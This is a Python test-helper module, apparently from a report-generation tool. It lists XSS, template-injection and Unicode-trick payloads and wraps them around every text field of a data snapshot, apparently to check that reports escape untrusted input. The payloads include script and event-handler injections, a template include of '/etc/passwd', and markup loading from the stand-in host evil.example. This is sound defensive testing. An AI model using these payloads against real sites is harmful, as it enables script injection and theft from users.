"""Texts that try to be more than text, put into every field of a snapshot that a stranger could fill."""

from __future__ import annotations

import typing
from typing import Any, TypeVar

import msgspec

from assess.comparing import model as comparing
from assess.dossier import entities
from assess.dossier.cases import STATES
from assess.findings import model as findings
from assess.packs import model as packs
from assess.report.messages import EFFECTS
from assess.scoring import result, robustness

Poisoned = TypeVar("Poisoned", bound=msgspec.Struct)

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onload=`alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example'?>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}#{alert(1)}",
    "{campaign.__class__}{0}%s%(x)s",
    "\u202egnp.exe\u2066\u2069",
    "a\u0000b\u0007\u001b[31m\u200b\ufeff",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;&colon;",
    "\ud83d\u2028\u2029</p></section></main>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
)


def _words() -> frozenset[str]:
    """The words that the snapshot's types prescribe; anything else in it came from somebody."""
    words: set[str] = set(STATES) | set(EFFECTS)

    def collect(kind: Any) -> None:
        if typing.get_origin(kind) is typing.Literal:
            words.update(str(a) for a in typing.get_args(kind))
        for argument in typing.get_args(kind):
            if not isinstance(argument, str):
                collect(argument)

    for module in (entities, findings, packs, result, robustness, comparing):
        for value in vars(module).values():
            if isinstance(value, type) and issubclass(value, msgspec.Struct):
                for hint in typing.get_type_hints(value).values():
                    collect(hint)
    return frozenset(words)


def poisoned(snapshot: Poisoned, payload: str) -> Poisoned:
    """The snapshot (or what was made of one) with `payload` around every text in it, ids and keys included, the same way everywhere."""
    words = _words()

    def walk(value: Any) -> Any:
        if isinstance(value, str):
            return value if value in words or not value else f"{payload}{value}{payload}"
        if isinstance(value, msgspec.Struct):
            return type(value)(**{name: walk(getattr(value, name)) for name in value.__struct_fields__})
        if isinstance(value, dict):
            return {walk(key): walk(item) for key, item in value.items()}
        return tuple(walk(item) for item in value) if isinstance(value, tuple) else value

    changed: Poisoned = walk(snapshot)
    return changed
